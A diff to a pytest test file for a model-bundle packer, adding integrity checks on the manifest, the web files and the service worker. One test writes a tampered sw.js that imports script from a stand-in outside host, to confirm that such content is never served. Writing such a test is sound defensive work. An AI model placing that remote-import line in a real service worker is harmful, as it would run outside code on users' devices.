@@ -7,7 +7,9 @@ import re
 import shutil
 import subprocess
 import sys
+import urllib.request
 from collections.abc import Callable
+from hashlib import sha256
 from pathlib import Path
 
 import pytest
@@ -52,11 +54,44 @@ def test_packing_twice_gives_the_same_bytes(copied: Path) -> None:
 
 
 def test_another_model_makes_another_version(copied: Path) -> None:
-    first = phone.version_of(phone.checksums(copied / "web"))
-    (copied / phone.MODEL).write_bytes((copied / phone.MODEL).read_bytes() + b"\0")
+    first = json.loads((copied / "web" / "files.json").read_text())["version"]
+    assert first in (copied / "web" / "sw.js").read_text()
+    _append(copied / phone.MODEL)
+    _restate(copied)
     phone.pack(copied)
-    assert phone.version_of(phone.checksums(copied / "web")) != first
+    assert json.loads((copied / "web" / "files.json").read_text())["version"] != first
     assert first not in (copied / "web" / "sw.js").read_text()
+
+
+@pytest.mark.parametrize("name", [phone.MODEL, "trained_model.txt"])
+def test_a_file_that_the_manifest_does_not_know_is_not_packed(name: str, copied: Path) -> None:
+    _append(copied / name)
+    with pytest.raises(ValueError, match=f"{name} is not the file that manifest.json describes"):
+        phone.pack(copied)
+    with pytest.raises(ValueError, match="not the file that manifest"), phone.serving(copied, port=0):
+        pass
+
+
+@pytest.mark.parametrize("content", ["", "null", "[]", "{}", '{"files": null}', '{"files": {"trained_model.txt": 3}}'])
+def test_a_manifest_that_describes_nothing_is_refused(content: str, copied: Path) -> None:
+    (copied / "manifest.json").write_text(content)
+    with pytest.raises(ValueError, match=r"manifest\.json is damaged"):
+        phone.pack(copied)
+
+
+def test_what_is_served_is_packed_anew(copied: Path) -> None:
+    """A web folder from an older course, or changed by hand, does not reach a phone."""
+    _append(copied / "web" / "app.js")
+    (copied / "web" / "sw.js").write_text("importScripts('https://elsewhere.example/x.js')")
+    with phone.serving(copied, port=0) as server, urllib.request.urlopen(server.urls[0] + "sw.js", timeout=5) as answer:
+        served = answer.read()
+    assert served == phone.web_files(copied)["sw.js"]
+
+
+def _restate(bundle: Path) -> None:
+    manifest = json.loads((bundle / "manifest.json").read_text())
+    manifest["files"][phone.MODEL]["sha256"] = sha256((bundle / phone.MODEL).read_bytes()).hexdigest()
+    (bundle / "manifest.json").write_text(json.dumps(manifest))
 
 
 def _append(path: Path) -> None:
@@ -72,15 +107,16 @@ def _write_deep(path: Path) -> None:
     ("name", "damage", "said"),
     [
         ("web", shutil.rmtree, "has no web/ folder"),
-        ("web/tflite.js", _append, "web/tflite.js was changed after the export"),
+        ("web/tflite.js", _append, "web/tflite.js is not what this course packs"),
+        ("web/sw.js", _append, "web/sw.js is not what this course packs"),
+        ("web/files.json", _append, "web/files.json is not what this course packs"),
         ("web/tflite.js", Path.unlink, "web/tflite.js is missing"),
         ("web/extra.js", Path.touch, "web/extra.js does not belong there"),
         ("web/inner/extra.js", _write_deep, "web/inner/extra.js does not belong there"),
-        ("web/files.json", lambda path: path.write_text("{"), "web/files.json is missing or damaged"),
-        ("web/files.json", lambda path: path.write_text('{"files": 3}'), "web/files.json is missing or damaged"),
-        ("web/sw.js", Path.unlink, "web/sw.js is missing or belongs to another version"),
-        ("trained_model_float16.tflite", _append, "differs from the bundle's own trained_model_float16.tflite"),
-        ("manifest.json", _append, "web/manifest.json differs from the bundle's own"),
+        ("web/sw.js", Path.unlink, "web/sw.js is missing"),
+        ("trained_model_float16.tflite", _append, "trained_model_float16.tflite is not the file that manifest.json"),
+        ("web/trained_model_float16.tflite", _append, "web/trained_model_float16.tflite is not what this course packs"),
+        ("golden.json", _append, "web/files.json is not what this course packs"),
         ("flutter/assets/trained_model.txt", _append, "flutter/assets/trained_model.txt differs"),
         ("flutter/test/golden.json", Path.unlink, "flutter/test/golden.json is missing"),
     ],
@@ -93,7 +129,7 @@ def test_the_first_wrong_file_is_named(name: str, damage: Callable, said: str, c
 
 def test_checking_a_bundle_checks_what_travels_with_it(copied: Path) -> None:
     _append(copied / "web" / "app.js")
-    with pytest.raises(ValueError, match=r"web/app\.js was changed after the export"):
+    with pytest.raises(ValueError, match=r"web/app\.js is not what this course packs"):
         mnist.check(copied)
 
 
